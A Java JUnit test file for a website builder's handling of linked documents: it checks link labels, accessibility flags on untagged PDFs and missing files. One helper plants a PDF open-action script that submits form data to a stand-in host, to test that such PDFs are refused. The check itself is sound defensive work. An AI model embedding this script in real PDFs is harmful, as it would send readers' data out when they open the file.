package org.engagementportal.pipeline;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import org.engagementportal.testing.TextSite;
import org.engagementportal.tools.ExamplePapers;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Documents on any page (an annual report, a strategy), with the checks and descriptions consultations' documents get. */
class PageDocumentsTest {
    static final String NOW = "2026-07-01T09:00";

    @TempDir
    Path dir;

    private TextSite site(String documents) {
        return TextSite.write(dir.resolve("site"), """
                -- content/accessible-information.md --
                ---
                type: statement
                title: Accessible Information Statement
                summary: How to ask for information in a format that works for you.
                formats: [easy-read, large-print]
                contact:
                  email: accessible@testshire.example
                response_days: 10
                ---
                We follow the Accessible Information Standard.
                -- content/accessibility.md --
                ---
                title: Accessibility statement
                summary: How accessible this website is.
                ---
                We want everyone to be able to use this website.
                -- content/about/annual-report.md --
                ---
                title: Annual report
                summary: What we did last year.
                updated: 2026-06-30
                """ + documents + """
                ---
                Our annual report for 2025/26.
                """);
    }

    @Test
    void aPdfThatWouldRunAProgramIsNotPublishedNamedOrLoose() throws IOException {
        // Copied to the site as it was and linked, with only "no web page version" said of it.
        TextSite s = site("""
                documents:
                  - title: Annual report 2025/26
                    file: annual-report.pdf
                """);
        Path named = s.root().resolve("content/about/annual-report.pdf");
        ExamplePapers.write(named, true, "Annual report", "Annual report", List.of("We did a lot."));
        withOpeningScript(named);
        Path loose = s.root().resolve("content/leaflet.pdf");
        ExamplePapers.write(loose, true, "Leaflet", "Leaflet", List.of("Come along."));
        withOpeningScript(loose);
        s.build(dir.resolve("out"), NOW).failedWith(
                "content/about/annual-report.md:7:11: error: the PDF content/about/annual-report.pdf contains JavaScript, which PDF "
                        + "readers run. Published on the site, it would act in readers' PDF viewers in the organisation's name, so "
                        + "the portal does not publish it.",
                "Fix: Make the PDF again from the document it came from (in Word: File, Save as, PDF), or print it to a PDF");
        // Once the named one is made again, the loose one is checked too (loose files are looked at when every page reads).
        ExamplePapers.write(named, true, "Annual report", "Annual report", List.of("We did a lot."));
        s.build(dir.resolve("out"), NOW).failedWith("content/leaflet.pdf: error: the PDF content/leaflet.pdf contains JavaScript");
        ExamplePapers.write(loose, true, "Leaflet", "Leaflet", List.of("Come along."));
        s.build(dir.resolve("out"), NOW).succeeded();
    }

    /** Adds a script run on opening, as a hostile or careless maker would. */
    private static void withOpeningScript(Path pdf) throws IOException {
        try (org.apache.pdfbox.pdmodel.PDDocument doc = org.apache.pdfbox.Loader.loadPDF(java.nio.file.Files.readAllBytes(pdf))) {
            doc.getDocumentCatalog().setOpenAction(new org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript(
                    "this.submitForm('https://collect.example/')"));
            doc.save(pdf.toFile());
        }
    }

    @Test
    void aPagesDocumentsSayTheirTypeSizeAndPagesAndAnUntaggedPdfIsFlagged() throws IOException {
        TextSite s = site("""
                documents:
                  - title: Annual report 2025/26
                    file: annual-report.pdf
                  - title: Our five-year strategy
                    file: /strategy.pdf
                """);
        ExamplePapers.write(s.root().resolve("content/about/annual-report.pdf"), true, "Annual report", "Annual report",
                List.of("We did a lot."));
        ExamplePapers.write(s.root().resolve("content/strategy.pdf"), false, "Strategy", "Strategy", List.of("Scanned."));
        TextSite.Built built = s.build(dir.resolve("out"), NOW)
                .warned("content/about/annual-report.md:9:11: warning: the PDF content/strategy.pdf has no title, no language and no tags");
        Document page = built.page("/about/annual-report/");
        List<Element> links = page.select("#documents + ul > li");
        assertEquals(2, links.size());
        assertEquals("/about/annual-report.pdf", links.get(0).selectFirst("a").attr("href"));
        assertTrue(links.get(0).selectFirst("a").text().matches("Annual report 2025/26, PDF, [0-9.]+ KB, 1 page"),
                links.get(0).selectFirst("a").text());
        assertTrue(links.get(0).select(".portal-doc-warning").isEmpty(), "a tagged PDF is not flagged");
        assertTrue(links.get(1).selectFirst(".portal-doc-warning").text().contains("may not be suitable for users of assistive technology"));
        String request = links.get(1).select(".portal-doc-warning a").attr("href");
        assertTrue(request.startsWith("mailto:accessible@testshire.example") && request.contains("30%20June%202026"),
                "the request quotes the page's date: " + request);
        assertTrue(built.page("/accessibility/").text().contains("Our five-year strategy"), "listed as not accessible");
    }

    @Test
    void aDocumentThatIsNotThereStopsTheBuildAtItsLine() {
        site("documents:\n  - title: Annual report\n    file: annual-reprot.pdf\n")
                .build(dir.resolve("out"), NOW)
                .failedWith("content/about/annual-report.md:7:11: error: the file 'annual-reprot.pdf' named here does not exist");
    }

    @Test
    void aPageWithoutDocumentsHasNoDocumentsHeading() {
        TextSite.Built built = site("").build(dir.resolve("out"), NOW).succeeded();
        assertTrue(built.page("/about/annual-report/").select("#documents").isEmpty());
    }
}
